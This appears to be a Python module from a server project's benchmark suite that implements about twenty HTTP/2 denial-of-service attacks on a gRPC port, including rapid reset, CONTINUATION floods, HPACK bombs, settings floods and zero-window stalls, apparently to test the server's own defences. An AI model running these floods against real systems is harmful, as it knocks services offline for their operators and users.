"""Attacks on the gRPC port by frames of HTTP/2: all that have a CVE of their own, and more."""

import time

import hpack

from benchmarks.attacks.peer import (
    CHECK,
    INFER,
    WATCH,
    Peer,
    Told,
    flood,
    literal,
    peers,
)
from benchmarks.attacks.scene import Attack, Outcome, Target
from headway.wire.http2 import frames
from headway.wire.http2.frames import Code


def _open(target: Target) -> str:
    """A method that the attacker may call."""
    return INFER if target.key else CHECK


def _text(size: int) -> bytes:
    from headway.server.grpc import inference_pb2 as pb

    request = pb.ModelInferRequest(model_name="shout")
    tensor = request.inputs.add(name="input", datatype="BYTES", shape=[1])
    tensor.contents.bytes_contents.append(b"a" * size)
    return request.SerializeToString()


def rapid_reset(target: Target) -> Outcome:
    """CVE-2023-44487."""

    def one(peer: Peer, n: int) -> bytes:
        call = peer.head(2 * n + 1, _open(target))
        return call + frames.rst_stream(2 * n + 1, Code.CANCEL)

    return flood(target, "calls begun and reset", one)


def made_you_reset(target: Target) -> Outcome:
    """CVE-2025-8671: the server itself is made to reset what it has begun."""

    def one(peer: Peer, n: int) -> bytes:
        number = 2 * n + 1
        path, message = (INFER, _TEXT) if target.key else (CHECK, b"")
        return peer.call(number, path, message) + (
            frames.window_update(number, 0) if n % 2 else frames.frame(frames.DATA, 0, number, b"x")
        )

    return flood(target, "calls that the server must reset", one)


def continuation_flood(target: Target) -> Outcome:
    """CVE-2024-27316 and its siblings."""

    def first(peer: Peer) -> bytes:
        return frames.frame(frames.HEADERS, 0, 1, peer.block(_open(target)))

    def one(peer: Peer, n: int) -> bytes:
        return frames.frame(frames.CONTINUATION, 0, 1, literal(b"x%d" % n, b"y" * 100))

    return flood(target, "parts of a head without an end", one, first=first)


def empty_continuations(target: Target) -> Outcome:
    def first(peer: Peer) -> bytes:
        return frames.frame(frames.HEADERS, 0, 1, peer.block(_open(target)))

    return flood(
        target,
        "empty parts of a head",
        lambda peer, n: frames.frame(frames.CONTINUATION, 0, 1, b""),
        first=first,
    )


def ping_flood(target: Target) -> Outcome:
    """CVE-2019-9512; the answers are not read."""
    ping = frames.frame(frames.PING, 0, 0, bytes(8))
    return flood(target, "pings", lambda peer, n: ping)


def priority_loop(target: Target) -> Outcome:
    """CVE-2019-9513."""

    def one(peer: Peer, n: int) -> bytes:
        on = (2 * (n % 50) + 3).to_bytes(4, "big")
        return frames.frame(frames.PRIORITY, 0, 2 * (n % 49) + 1, on + bytes([n % 256]))

    return flood(target, "changes of the tree of priorities", one)


def reset_flood(target: Target) -> Outcome:
    """CVE-2019-9514: heads that the server must answer with a reset."""
    broken = literal(b":method", b"POST") + literal(b"UPPER", b"x")
    return flood(
        target,
        "heads that must be reset",
        lambda peer, n: frames.headers(2 * n + 1, broken, is_last=True),
    )


def settings_flood(target: Target) -> Outcome:
    """CVE-2019-9515, with a thousand calls open where there is a key."""

    def first(peer: Peer) -> bytes:
        if not target.key:
            return b""
        return b"".join(peer.head(2 * n + 1, INFER) for n in range(1000))

    def one(peer: Peer, n: int) -> bytes:
        return frames.settings({frames.INITIAL_WINDOW_SIZE: 2**16 + n % 2})

    return flood(target, "settings that move every window", one, first=first)


def empty_names(target: Target) -> Outcome:
    """CVE-2019-9516."""

    def one(peer: Peer, n: int) -> bytes:
        block = peer.block(_open(target)) + b"\x40\0\0" * 20
        return frames.headers(2 * n + 1, block, is_last=False)

    return flood(target, "heads with headers of no length", one)


def unread_answers(target: Target) -> Outcome:
    """CVE-2019-9517: windows are wide open, and nothing is read from the socket."""
    path, message = (INFER, _text(200_000)) if target.key else (CHECK, b"")
    with peers(target, 8, window=2**31 - 1, reads=False) as found:
        for peer in found:
            peer.send(frames.window_update(0, 2**31 - 1 - frames.FIRST_WINDOW))
        ends_at, asked = time.monotonic() + target.seconds, 0
        while time.monotonic() < ends_at and not all(each.is_cut for each in found):
            for peer in found:
                if not peer.is_full and not peer.is_cut:
                    peer.send(peer.call(2 * asked + 1, path, message))
                    asked += 1
                else:
                    peer.send(b"")
    cut = sum(each.is_cut for each in found)
    return Outcome(f"{asked:,} answers asked for and not read", f"{cut} of 8 cut", True)


def empty_frames(target: Target) -> Outcome:
    """CVE-2019-9518."""

    def first(peer: Peer) -> bytes:
        return peer.head(1, _open(target))

    return flood(
        target,
        "empty frames of data",
        lambda peer, n: frames.frame(frames.DATA, 0, 1, b""),
        first=first,
    )


def tiny_frames(target: Target) -> Outcome:
    def first(peer: Peer) -> bytes:
        size = (900_000 if target.key else 16_000).to_bytes(4, "big")
        return peer.head(1, _open(target)) + frames.frame(frames.DATA, 0, 1, b"\0" + size)

    return flood(
        target,
        "frames of one byte",
        lambda peer, n: frames.frame(frames.DATA, 0, 1, b"x"),
        first=first,
    )


def data_dribble(target: Target) -> Outcome:
    """CVE-2019-9511: answers are taken a byte at a time."""
    path, message = (INFER, _text(4_000)) if target.key else (CHECK, b"")
    told, opened = Told(), 0
    with peers(target, 4, window=0) as found:
        ends_at = time.monotonic() + _PATIENCE_S
        for peer in found:
            peer.send(b"".join(peer.call(2 * n + 1, path, message) for n in range(50)))
        while time.monotonic() < ends_at and not all(_is_done(each, 50) for each in found):
            for peer in found:
                peer.send(b"".join(frames.window_update(2 * n + 1, 1) for n in range(50)))
                opened += 50
            time.sleep(0.05)
        for peer in found:
            told.add(peer)
    return Outcome(
        f"200 answers a byte at a time, {opened:,} windows of one byte", str(told), told.total() > 0
    )


def _is_done(peer: Peer, calls: int) -> bool:
    return peer.is_cut or peer.answered >= calls


def zero_windows(target: Target) -> Outcome:
    """Answers that have no window to leave by, held as long as the server lets them."""
    path, message = (INFER, _text(4_000)) if target.key else (CHECK, b"")
    told = Told()
    with peers(target, 8, window=0) as found:
        for peer in found:
            peer.send(b"".join(peer.call(2 * n + 1, path, message) for n in range(90)))
        _wait_all(found, _PATIENCE_S, 90)
        for peer in found:
            told.add(peer)
    return Outcome("720 answers without a window", str(told), told.total() >= 700 or told.cuts > 0)


def _wait_all(found: list[Peer], seconds: float, calls: int) -> None:
    """Until each has been told about all of its calls."""
    ends_at = time.monotonic() + seconds
    for peer in found:
        left_s = ends_at - time.monotonic()
        peer.wait(max(0.0, left_s), lambda: _is_done(peer, calls))  # noqa: B023 - waited for here


def window_flood(target: Target) -> Outcome:
    path, message = (INFER, _TEXT) if target.key else (CHECK, b"")

    def first(peer: Peer) -> bytes:
        return b"".join(peer.call(2 * n + 1, path, message) for n in range(90))

    def one(peer: Peer, n: int) -> bytes:
        return frames.window_update(0, 1)

    return flood(target, "windows opened by a byte", one, first=first, window=0)


def hpack_bomb(target: Target) -> Outcome:
    """A header of 4 KB in the table, and a thousand references to it."""
    large = b"\x40" + literal(b"x", b"y" * 4000)[1:]

    def one(peer: Peer, n: int) -> bytes:
        block = peer.block(_open(target)) + (large if not n else b"") + b"\xbe" * 1000
        return frames.headers(2 * n + 1, block, is_last=True)

    return flood(target, "heads of 4 MB, packed into 1 KB", one, batch=1)


def large_heads(target: Target) -> Outcome:
    """Heads in Huffman's code, each another one: the dearest to read."""
    encoder = hpack.Encoder()
    large = [
        encoder.encode([hpack.NeverIndexedHeaderTuple("x", f"{n:08}" * 850)]) for n in range(16)
    ]

    def one(peer: Peer, n: int) -> bytes:
        block = peer.block(_open(target)) + large[n % len(large)]
        return frames.headers(2 * n + 1, block, is_last=True)

    return flood(target, "heads of 7 KB", one, batch=4)


def remembered_heads(target: Target) -> Outcome:
    """Idle connections that have made the server remember much."""
    told = Told()
    with peers(target, 32) as found:
        for peer in found:
            peer.send(
                b"".join(
                    peer.head(2 * n + 1, CHECK, ("x", f"{n:04}" * 1500), is_last=True)
                    for n in range(64)
                )
            )
        _wait_all(found, target.seconds, 64)
        for peer in found:
            told.add(peer)
    return Outcome("64 heads of 6 KB on each of 32 idle connections", str(told), True)


def open_streams(target: Target) -> Outcome:
    """Ten connections, each with hundreds of calls that have sent a part of their message."""
    calls = round(667 * target.seconds)  # a thousand, but in a test
    path = INFER if target.key else CHECK
    told = Told()
    part = b"\0" + (40_000).to_bytes(4, "big") + bytes(16_000)
    with peers(target, 10) as found:
        for n in range(calls):
            number = 2 * n + 1
            data = frames.frame(frames.DATA, 0, number, part) * 2
            for peer in found:
                peer.send(peer.head(number, path) + data)
        _wait_all(found, target.seconds, calls)
        for peer in found:
            told.add(peer)
    return Outcome(f"10 × {calls:,} calls, 32 KB of each", str(told), told.total() > 0)


def hung_up_uploads(target: Target) -> Outcome:
    """Parts of large messages, and the end of the connection."""
    told, part = Told(), bytes(16_000)
    ends_at, count = time.monotonic() + target.seconds, 0
    while time.monotonic() < ends_at:
        with peers(target, 4) as found:
            for peer in found:
                for n in range(8):
                    head = peer.head(2 * n + 1, _open(target))
                    size = b"\0" + (900_000).to_bytes(4, "big")
                    peer.send(head + frames.frame(frames.DATA, 0, 2 * n + 1, size))
                    data = frames.frame(frames.DATA, 0, 2 * n + 1, part) * 50
                    peer.send(data)
                    count += 1
            for peer in found:
                peer.wait(0.05, lambda: False)
                told.add(peer)
    return Outcome(f"{count:,} uploads of 800 KB, hung up on", str(told), told.total() > 0)


def watchers(target: Target) -> Outcome:
    """`Health.Watch` needs no key, and never ends by itself."""
    told = Told()
    with peers(target, 10) as found:
        for peer in found:
            peer.send(b"".join(peer.call(2 * n + 1, WATCH, b"") for n in range(1000)))
        _wait_all(found, target.seconds, 900)
        for peer in found:
            told.add(peer)
    return Outcome("10,000 watchers of health", str(told), told.total() >= 100)


_TEXT = _text(10)
_PATIENCE_S = 15.0  # how long an attacker waits until the server cuts it off
ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "made you reset": made_you_reset,
    "CONTINUATION flood": continuation_flood,
    "empty CONTINUATION": empty_continuations,
    "data dribble": data_dribble,
    "ping flood": ping_flood,
    "priority loop": priority_loop,
    "reset flood": reset_flood,
    "settings flood": settings_flood,
    "0-length headers": empty_names,
    "unread answers": unread_answers,
    "empty frames": empty_frames,
    "frames of a byte": tiny_frames,
    "zero windows": zero_windows,
    "window flood": window_flood,
    "HPACK bomb": hpack_bomb,
    "large heads": large_heads,
    "remembered heads": remembered_heads,
    "open streams": open_streams,
    "uploads hung up": hung_up_uploads,
    "Health.Watch": watchers,
}
